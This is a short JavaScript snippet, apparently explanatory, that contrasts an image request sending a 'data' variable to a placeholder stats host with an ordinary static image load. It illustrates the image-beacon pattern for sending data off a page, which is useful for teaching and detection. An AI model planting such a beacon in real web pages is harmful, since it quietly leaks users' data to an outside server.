// shows it
new Image().src = 'https://stats.example.net/c?d=' + data

// does not
new Image().src = 'https://static.example.net/logo.png'
